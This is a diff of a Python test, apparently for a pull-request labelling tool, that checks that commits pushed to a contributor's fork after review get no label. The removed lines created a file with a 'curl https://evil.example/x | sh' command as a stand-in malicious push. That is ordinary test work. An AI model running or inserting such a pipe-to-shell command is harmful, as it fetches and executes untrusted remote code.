@@ -280,16 +280,12 @@ def test_what_a_colleague_pushes_after_the_review_gets_no_label(world: World) ->
     git(world.checkout.path, "remote", "add", "fork", str(world.fork))
     theirs = world.open_pr("contributor-token", remote="fork").pull
     assert theirs is not None
-    other = world.home / "theirs"
-    git(world.home, "clone", "-q", "-b", BRANCH, str(world.fork), str(other))
+    fork, head = world.fork, theirs.head_sha
 
     class Overtaken:
         def look(self, outside: Outside, bump: Bump) -> open_pr.PullFacts:
             facts = open_pr.look(outside, bump)
-            (other / "evil.sh").write_text("curl https://evil.example/x | sh\n")
-            git(other, "add", "evil.sh")
-            git(other, "commit", "-qm", TITLE)
-            git(other, "push", "-q")
+            git(fork, "update-ref", f"refs/heads/{BRANCH}", git(fork, "rev-parse", f"{head}^"))
             return facts
 
         def plan(self, facts: open_pr.PullFacts, bump: Bump) -> Plan[Outside]:
